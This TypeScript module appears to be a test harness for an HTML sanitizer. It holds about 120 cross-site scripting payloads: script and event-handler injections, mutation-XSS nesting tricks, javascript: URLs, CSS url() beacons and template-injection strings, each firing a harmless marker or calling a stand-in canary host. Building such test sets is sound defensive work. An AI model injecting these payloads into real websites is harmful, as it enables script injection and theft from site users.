/** Where nothing may ever be asked for anything. */
const canary = "//canary.example/x";

/** What an attacker's script would do: the browser reports `fired` to us, and we see a request. */
const act = "fired()";

/** Run as soon as they are shown, where nothing hinders them. */
const selfActing = [
  `<script>${act}</script>`,
  `<SCRIPT>${act}</SCRIPT>`,
  `<script src=https:${canary}.js></script>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<script type=module>${act}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script/x>${act}</script>`,
  `<script\n>${act}</script\n>`,
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</noscript><script>${act}</script>`,
  `--><script>${act}</script>`,
  `<!--><script>${act}</script>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<img src=x onerror=${act}>`,
  `<img src=x onerror="${act}">`,
  `<img/src=x/onerror=${act}>`,
  `<IMG SRC=x ONERROR=${act}>`,
  `<img src=x oNeRrOr=${act}>`,
  `<img src=x onerror\n=\n${act}>`,
  `<img src=x onerror=&#102;ired()>`,
  `<img src=x onerror=&#x66;ired()>`,
  `<img src=x onerror="&#102&#105&#114&#101&#100()">`,
  `<img src="x\` onerror=${act}\``,
  `<img """><script>${act}</script>">`,
  `"><img src=x onerror=${act}>`,
  `<img src=https:${canary}.png>`,
  `<img srcset="https:${canary}.png 1x">`,
  `<img src=${canary}.png>`,
  `<image src=x onerror=${act}>`,
  `<picture><source srcset=https:${canary}.png><img src=x></picture>`,
  `<svg onload=${act}>`,
  `<svg/onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script href="data:text/javascript,${act}"/></svg>`,
  `<svg><image href="https:${canary}.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${act}'/></svg>#x"/></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set onbegin=${act} attributeName=x to=y>`,
  `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}></style></mglyph></table></mtext></math>`,
  `<math><mi><mglyph></mi><img src=x onerror=${act}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${act}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${act}>">`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<iframe src=https:${canary}></iframe>`,
  `<iframe onload=${act}></iframe>`,
  `<frameset onload=${act}><frame></frameset>`,
  `<object data="data:text/html,<script>parent.${act}</script>"></object>`,
  `<object data=https:${canary}></object>`,
  `<embed src=https:${canary}>`,
  `<embed src="javascript:${act}">`,
  `<body onload=${act}>`,
  `<body background=https:${canary}.png>`,
  `<table background=https:${canary}.png><tr><td>x</td></tr></table>`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}></select>`,
  `<textarea autofocus onfocus=${act}></textarea>`,
  `<button autofocus onfocus=${act}>x</button>`,
  `<a href=# autofocus onfocus=${act}>x</a>`,
  `<video src=x onerror=${act}></video>`,
  `<video><source onerror=${act} src=x></video>`,
  `<video poster=https:${canary}.png></video>`,
  `<audio src=x onerror=${act}></audio>`,
  `<details open ontoggle=${act}>x</details>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<link rel=stylesheet href=https:${canary}.css>`,
  `<link rel=prefetch href=https:${canary}>`,
  `<link rel=icon href=https:${canary}.ico>`,
  `<base href=https:${canary}/><img src=y.png>`,
  `<meta http-equiv=refresh content="0;url=https:${canary}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *"><script>${act}</script>`,
  `<style>@import url(https:${canary}.css);</style>`,
  `<style>body{background:url(https:${canary}.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(https:${canary}.woff)}body{font-family:x}</style>`,
  `<style>p::after{content:url(https:${canary}.png)}</style><p>x</p>`,
  `<div style="background:url(https:${canary}.png)">x</div>`,
  `<div style="background-image:\\75rl(https:${canary}.png)">x</div>`,
  `<div style="list-style:url('https:${canary}.png')">x</div>`,
  `<p style="animation:x 1s" onanimationstart=${act}>x</p><style>@keyframes x{}</style>`,
  `<div onscrollsnapchange=${act} style="overflow:scroll">x</div>`,
  `<dialog open onclose=${act}>x</dialog>`,
  `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  `<div><template shadowrootmode=open><script>${act}</script></template></div>`,
];

/** Wait for somebody to click, or are of use to somebody only with another mistake. */
const waiting = [
  `<a href="javascript:${act}">x</a>`,
  `<a href="JaVaScRiPt:${act}">x</a>`,
  `<a href="java\nscript:${act}">x</a>`,
  `<a href="java&Tab;script:${act}">x</a>`,
  `<a href="&#106;avascript:${act}">x</a>`,
  `<a href=" javascript:${act}">x</a>`,
  `<a href="\u0001javascript:${act}">x</a>`,
  `<a href="vbscript:${act}">x</a>`,
  `<a href="data:text/html,<script>${act}</script>">x</a>`,
  `<a href="https:x" ping=https:${canary}>x</a>`,
  `<area href="javascript:${act}">`,
  `<form action="javascript:${act}"><input type=submit></form>`,
  `<form action=https:${canary}><input name=x></form>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<b onclick=${act}>x</b>`,
  `<b onmouseover=${act}>x</b>`,
  `<b onpointerenter=${act}>x</b>`,
  `<div style="width:expression(${act})">x</div>`,
  `<div style="behavior:url(https:${canary}.htc)">x</div>`,
  `<svg><a xlink:href="javascript:${act}"><text x=20 y=20>x</text></a></svg>`,
  `<isindex action="javascript:${act}">`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `{{=${act}}}`,
  `javascript:${act}`,
];

const payloads: readonly string[] = [...selfActing, ...waiting];

export interface Payloads {
  readonly all: readonly string[];
  /** Those that show, in a page without any guard, that our eyes are open. */
  readonly armed: readonly string[];
}

/** So many of them, from beginning to end: they lie sorted by kind. */
export function spread(payloads: readonly string[], count: number): readonly string[] {
  return payloads.filter(
    (_, at) =>
      Math.floor((at * count) / payloads.length) !==
      Math.floor(((at - 1) * count) / payloads.length),
  );
}

/** As many as are wanted, of every kind; null: all there are. */
export function choosePayloads(wanted: number | null): Payloads {
  const all = spread(payloads, Math.min(wanted ?? payloads.length, payloads.length));
  return { all, armed: all.filter((payload) => selfActing.includes(payload)) };
}
